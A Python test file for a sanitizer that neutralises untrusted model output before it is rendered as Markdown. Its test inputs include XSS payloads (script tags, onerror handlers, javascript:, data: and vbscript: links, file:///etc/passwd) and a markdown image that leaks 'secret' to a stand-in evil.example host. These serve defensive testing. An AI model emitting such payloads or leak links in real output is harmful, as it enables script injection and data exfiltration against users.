"""Untrusted model output made safe for st.markdown."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from slm_lib.safe_text import is_safe_url, neutralize


@pytest.mark.parametrize(
    "raw",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<iframe src='https://evil.example'></iframe>",
        "<javascript:alert(1)>",
        "\\<b>bold?</b>",
    ],
)
def test_no_html_tag_survives_in_prose(raw):
    out = neutralize(raw).text
    assert "<" not in out and "&lt;" in out


@pytest.mark.parametrize(
    "raw",
    [
        "[x](javascript:alert(1))",
        "[x](JavaScript:alert(1))",
        "[x]( javascript:alert(1) )",
        "[x](<javascript:alert(1)>)",
        "[x](jav&#x61;script:alert(1))",
        "[x](java\\script:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html,a((b)))",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x][r]\n\n[r]:\n  data:text/html,hi",
    ],
)
def test_unsafe_links_lose_their_target(raw):
    safe = neutralize(raw)
    low = safe.text.lower()
    for scheme in ("javascript", "data:", "vbscript", "file:", "jav&#x61;"):
        assert scheme not in low
    assert "#link-removed" in safe.text and safe.links_removed == 1


@pytest.mark.parametrize(
    "raw",
    [
        "[docs](https://docs.python.org/3/)",
        "[mail](mailto:a@b.org)",
        "[wiki](https://en.wikipedia.org/wiki/X_(y))",
        "[rel](#section)",
        "[rel](/path)",
    ],
)
def test_safe_links_are_kept(raw):
    safe = neutralize(raw)
    assert safe.text == raw and safe.links_removed == 0


def test_images_become_click_to_open_links():
    safe = neutralize("see ![chart](https://evil.example/leak?q=secret) and ![r][ref]")
    assert "![" not in safe.text
    assert "[🖼 chart](https://evil.example/leak?q=secret)" in safe.text
    assert safe.images_converted == 2


def test_code_is_left_alone():
    raw = "Use `<b>` tags:\n\n```html\n<img src=x onerror=alert(1)>\n[x](javascript:y)\n```\n"
    assert neutralize(raw).text == raw


def test_length_cap_with_visible_marker_and_closed_fence():
    raw = "```python\n" + "x = 1\n" * 10_000
    safe = neutralize(raw, max_chars=500)
    assert safe.truncated and safe.original_chars == len(raw)
    assert "truncated: showing 500 of" in safe.text
    assert safe.text.split("\n\n*[")[0].endswith("```")  # the fence is closed before the marker
    assert len(safe.text) < 600


def test_default_cap_comes_from_settings():
    from slm_lib import settings as app_settings

    cap = app_settings.limits().max_answer_chars
    assert neutralize("a" * (cap + 1)).truncated and not neutralize("a" * cap).truncated


def test_control_characters_and_lone_surrogates():
    safe = neutralize("a\x00b\x07c \ud800 <|im_end|>")
    assert "\x00" not in safe.text and "\x07" not in safe.text and "\ud800" not in safe.text
    assert "\ufffd" in safe.text and "&lt;|im_end|>" in safe.text
    safe.text.encode("utf-8")  # renderable


def test_deep_quote_nesting_is_flattened():
    assert neutralize("> " * 500 + "x").text.count(">") <= 8


@pytest.mark.parametrize(
    "raw",
    ["`" * 40_000, "[" * 40_000, "](" * 20_000, "```\n" * 10_000, "$$" * 20_000, "[a](" + "x" * 40_000],
)
def test_pathological_input_is_handled_and_bounded(raw):
    # These once took seconds in backtracking regexes; the scans are now linear (this runs in ms).
    out = neutralize(raw, max_chars=40_000)
    assert len(out.text) <= 6 * 40_000 + 100  # "<" -> "&lt;" is the only growth


def test_is_safe_url():
    assert is_safe_url("https://x.org") and is_safe_url("relative/page") and is_safe_url("")
    assert not is_safe_url("\tjavascript:x") and not is_safe_url("DATA:text/html,x")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_never_raises_and_never_leaves_a_tag_or_unsafe_link(text):
    out = neutralize(text, max_chars=200).text
    assert isinstance(out, str)
    assert "<script" not in out.lower()
